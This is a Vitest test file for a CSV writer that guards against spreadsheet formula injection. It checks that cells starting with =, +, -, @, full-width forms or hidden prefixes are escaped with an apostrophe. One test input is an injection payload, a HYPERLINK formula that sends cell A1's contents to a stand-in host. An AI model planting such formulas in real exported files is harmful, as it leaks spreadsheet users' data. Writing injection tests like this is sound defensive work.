/** CSV: nothing that a spreadsheet would carry out, and everything else as it was. */
import { describe, expect, it } from 'vitest';
import { csvHead, csvLines } from './csv.js';

/** What the one cell of a line holds, as a reader of RFC 4180 sees it. */
function cellOf(line: string): string {
  const text = line.slice(0, -'\r\n'.length);
  return text.startsWith('"') ? text.slice(1, -1).replaceAll('""', '"') : text;
}

const written = (value: string) => cellOf(csvLines([[value]]));

describe('a cell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\t=1', "\t'=1"],
    ['\r=1', "\r'=1"],
    ['\n=1', "\n'=1"],
    ['  =1', "  '=1"],
    ['\u{a0}=1', "\u{a0}'=1"],
    ['"=1', '"\'=1'],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠1', "'＠1"],
    // What a semicolon separates in much of the world begins another cell there.
    ['a;=1', "a;'=1"],
    ['a; "=1', 'a; "\'=1'],
    ['a\n+1', "a\n'+1"],
    ['a;b\t@1', "a;b\t'@1"],
    [`=HYPERLINK("https://x.example/?"&A1,"ok")`, `'=HYPERLINK("https://x.example/?"&A1,"ok")`],
  ])('that a spreadsheet could take for a formula is text: %j', (value, expected) => {
    const cell = written(value);
    // A tab, or a line break, is one of what it begins with, too.
    expect(cell).toBe(/^[\t\r]/.test(expected) ? `'${expected}` : expected);
  });

  it.each([
    'Zoë, 小明 & "co"',
    'two\nlines',
    'a=b',
    '1-2',
    'damaged; sent back',
    'a@example.com',
    '383729303729303',
    '0.00000001',
    "it's",
    '',
  ])('that it could not is as it was: %j', (value) => {
    expect(written(value)).toBe(value);
  });

  it('of a number, or of nothing, is left alone', () => {
    expect(csvLines([[-5, null, 'x']])).toBe('-5,,x\r\n');
  });
});

describe('a file', () => {
  it('begins with the mark by which Excel knows UTF-8', () => {
    expect([...new TextEncoder().encode(csvHead(['one', 'two']))].slice(0, 4)).toEqual([0xef, 0xbb, 0xbf, 0x6f]);
  });
});
